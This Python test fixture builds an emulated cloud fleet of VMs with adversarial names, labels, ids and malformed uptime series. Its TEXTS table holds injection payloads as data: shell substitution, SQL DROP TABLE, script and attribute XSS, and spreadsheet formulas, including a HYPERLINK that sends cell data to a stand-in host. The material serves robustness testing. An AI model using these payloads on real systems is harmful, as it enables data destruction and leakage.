"""A fleet of everything that names, labels, ids and uptimes should not be, and much that they may well be."""

import math
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

from infra.local.emulators import metric_filters
from infra.local.emulators.cloud import Cloud
from infra.local.emulators.monitoring_api import UPTIME, Monitoring, Query, Series, TimeSeries
from infra.local.fleet.fleet import FLEET_START, Fleet, Labels, Project, Run, Vm, instance_id
from infra.local.stack.stack import HOME_PROJECT

OWNER = Project(HOME_PROJECT, "760123984455")
ZONE, NOWHERE = "us-central1-a", "atlantis-north1-q"
SINCE = FLEET_START - timedelta(hours=20)
HALF_A_PAIR = "half \ud800 a pair"
"""JSON lets one half of a surrogate pair stand alone; no UTF-8 can say it."""

TEXTS = {
    "empty": "",
    "as long as may be": "x" * 63,
    "far too long": "y" * 5000,
    "every control character": "".join(map(chr, (*range(32), *range(127, 160)))),
    "nul": "nul\0nul",
    "quotes": "'\"`\u201c\u201d\u2019",
    "backslashes": "\\\\n\\u0000\\x",
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six",
    "shell": "${HOME} $(id) `id` %s %n",
    "template": "{{ 7 * 7 }}{% raw %}{#",
    "written from right to left": "\u202eexe.gnp\u202c\u2066\u2069\u200f",
    "emoji": "🚀👩🏽\N{ZERO WIDTH JOINER}💻🇩🇪",
    "letters with marks": "e\u0301 ≠ é",
    "no character": "\uffff\ufdd0\U0010ffff",
    "sql": "'; DROP TABLE spot_vm_costs; --",
    "sql comment": "*/ OR 1=1 /* --",
    "formula": '=HYPERLINK("http://x.test/?"&A1,"open")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab before a formula": "\t=1+1",
    "return before a formula": "\r=1+1",
    "line before a formula": "\n=1+1",
    "wide formula": "\uff1d1+1",
    "script": "</script><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(2)',
    "comment": "--><!--",
    "entity": "&lt;&#0;&amp;amp;",
    "number": "1e309",
    "octal": "0012",
    "day": "2026-02-30",
    "null": "NULL",
    "true": "true",
    "json": '{"key": [null, 1]}',
    "spaces": "  \u00a0 ",
}


@dataclass(frozen=True, slots=True)
class Odd:
    """An hour's uptime that is not what it should be: the values of the points of one series."""

    name: str
    points: tuple[float, ...]
    whole: bool = False
    number: str = ""


ODD_UPTIMES = (
    Odd("no-number", (math.nan,)),
    Odd("endless", (math.inf,)),
    Odd("less-than-nothing", (-60.0,)),
    Odd("nothing", (0.0,)),
    Odd("more-than-an-hour", (4000.0,)),
    Odd("whole", (1800.0,), whole=True),
    Odd("in-two-points", (600.0, 1200.0)),
    Odd("in-two-series", (900.0,)),
    Odd("in-two-series", (300.0,)),
    Odd("made-good-by-another-series", (3600.0,)),
    Odd("made-good-by-another-series", (-1800.0,)),
    Odd("stranger", (60.0,), number="not-a-number"),
)
"""None of these says how long it ran: `no-number`, `endless`, `less-than-nothing`, `made-good-by-another-series`."""


def at(hour: int, minute: int = 0) -> datetime:
    """Return a time of the fleet."""
    return FLEET_START + timedelta(hours=hour, minutes=minute)


def label_vms() -> list[Vm]:
    """One VM for each text: labelled with the text."""
    return [vm(f"label-{number:02}", {"team": text, "priority": "low"}) for number, text in enumerate(TEXTS.values())]


def named_vms() -> list[Vm]:
    """One VM for each text that is named so; the empty one is none that a list could go on after."""
    return [vm(text, {"team": "named", "priority": "low"}) for text in TEXTS.values() if text]


def other_vms() -> list[Vm]:
    """VMs that are odd in other ways."""
    return [
        vm("many-labels", {f"key-{number:02}": f"value-{number}" for number in range(64)}),
        vm("alike-labels", {"Team": "upper", "team": "lower", "TEAM": "loud", "priority": "low"}),
        vm("odd-keys", {"": "empty", "=key": "formula", "k\0ey": "nul", "team": "odd-keys"}),
        vm("signed", {"team": "ids"}, number=2**63 - 1),
        vm("unsigned", {"team": "ids"}, number=2**63),
        vm("unsigned-and-one", {"team": "ids"}, number=2**63 + 1),
        vm("largest", {"team": "ids"}, number=2**64 - 1),
        vm("largest-but-one", {"team": "ids"}, number=2**64 - 2),
        vm("unheard-of", {"team": "shapes"}, machine_type="n9-standard-4"),
        replace(vm("nowhere", {"team": "places"}), zone=NOWHERE),
        *(vm(each.name, {"team": "uptimes"}, run=False) for each in dict.fromkeys(ODD_UPTIMES)),
    ]


def vm(
    name: str,
    labels: Labels,
    *,
    number: int | None = None,
    machine_type: str = "n2-standard-2",
    run: bool = True,
) -> Vm:
    """Return a Spot VM that runs all the time; one without a run is up, and its uptime is served elsewhere."""
    return Vm(
        project_id=OWNER.project_id,
        zone=ZONE,
        name=name,
        instance_id=instance_id(name) if number is None else number,
        created=SINCE,
        runs=(Run(SINCE),) if run else (),
        machine_types=((SINCE, machine_type),),
        labels=((SINCE, labels),),
        shown_status="RUNNING",
    )


def odd_fleet() -> Fleet:
    """Return all of them, and one VM whose label no UTF-8 can say."""
    half = vm("half-a-pair", {"team": HALF_A_PAIR})
    every = {each.instance_id: each for each in [*label_vms(), *named_vms(), *other_vms(), half]}
    return Fleet((OWNER,), tuple(every.values()))


class OddMonitoring(Monitoring):
    """The emulator, which tells the odd uptimes as well."""

    def _uptime(self, project: Project, wanted: metric_filters.Filter, query: Query, now: datetime) -> Iterator[Series]:
        yield from (Series(_written(each, query), list) for each in ODD_UPTIMES)
        yield from super()._uptime(project, wanted, query, now)


def odd_cloud() -> Cloud:
    """Return the emulators with the odd fleet and the odd uptimes."""
    cloud = Cloud(odd_fleet())
    cloud.monitoring = OddMonitoring(cloud.state)
    return cloud


def _written(odd: Odd, query: Query) -> bytes:
    series = TimeSeries(metric_kind="DELTA", value_type="INT64" if odd.whole else "DOUBLE")
    series.metric.type = UPTIME
    series.metric.labels["instance_name"] = odd.name
    series.resource.type = "gce_instance"
    series.resource.labels["project_id"] = OWNER.project_id
    series.resource.labels["zone"] = ZONE
    series.resource.labels["instance_id"] = odd.number or str(instance_id(odd.name))
    for value in odd.points:
        point = series.points.add()
        point.interval.end_time.seconds = int(query.end.timestamp())
        if odd.whole:
            point.value.int64_value = int(value)
        else:
            point.value.double_value = value
    head: bytes = series.SerializeToString()
    return head
